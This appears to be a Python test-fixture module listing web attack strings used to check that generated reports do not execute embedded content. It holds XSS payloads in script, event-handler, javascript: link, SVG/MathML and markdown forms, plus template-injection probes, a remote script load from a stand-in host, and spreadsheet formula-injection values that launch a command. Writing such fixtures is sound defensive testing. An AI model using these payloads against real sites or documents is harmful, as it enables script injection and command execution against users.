"""Text that would do harm where a page took it for more than text: for the tests of what comes from reports.

``RUN`` is what each of them tries to run. A browser that runs it anywhere has ``window.pwned`` set afterwards.
Every payload is one line without a TAB, so that it can stand in a cell of a report.
"""

RUN = "window.pwned=1"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<script type=module>{RUN}</script>",
    f"<script/src='data:text/javascript,{RUN}'></script>",
    "<script src=//elsewhere.test/x.js></script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script><!--<script>{RUN}</script>",
    f'"}}</script><script>{RUN}</script>{{"',
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f"<img src='x' ONERROR=\"{RUN}\">",
    f"<img src=x:x onerror\n={RUN}>".replace("\n", " "),
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>s</summary>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<object data=x onerror={RUN}></object>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<div style='animation: x 1s' onanimationstart={RUN}>d</div><style>@keyframes x{{}}</style>",
    f"<a id=x tabindex=1 onfocus={RUN} href=#x autofocus>f</a>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"`><img src=x onerror={RUN}>`",
    f"--><img src=x onerror={RUN}><!--",
]

LINKS = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' &#1; javascript:{RUN}'>x</a>",
    f"<a href='java&#x0A;script:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action='javascript:{RUN}'><button>b</button></form>",
    f"<embed src='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.test/'>",
    "<base href='https://elsewhere.test/'>",
    "<link rel=stylesheet href=https://elsewhere.test/x.css>",
    "<img src=https://elsewhere.test/x.png>",
    "<table background=https://elsewhere.test/x.png><td>1",
]

DRAWINGS = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>t</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>m</maction></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"![x](x' onerror='{RUN})",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    "![p](https://elsewhere.test/x.png)",
    f"```<script>{RUN}</script>```",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "**bold** _slanted_ ~~struck~~ # heading",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{department.__class__}",
    "{0}{}{name!r:>99}",
    "%(report)s %s %n",
    "\\u003cscript\\u003e",
]

BROKEN = [
    "</td></tr></table></div></main></body></html>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><?php {RUN} ?>",
    "<!-- unclosed comment",
    "<table><tr><td colspan=999999999 rowspan=999999999>1",
    "<plaintext>",
    "<!doctype html><html manifest=//elsewhere.test>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &NotAnEntity;",
    "<!-- banner --> <!-- policy --> <!--drawing 0-->",
    "[the version of the data]",
    f"\u2028{RUN}\u2029",
    "\u202egnp.exe\u202c \u2066<b>\u2069",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "\u200b<\u200bscript>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *DRAWINGS, *MARKDOWN, *TEMPLATES, *BROKEN]
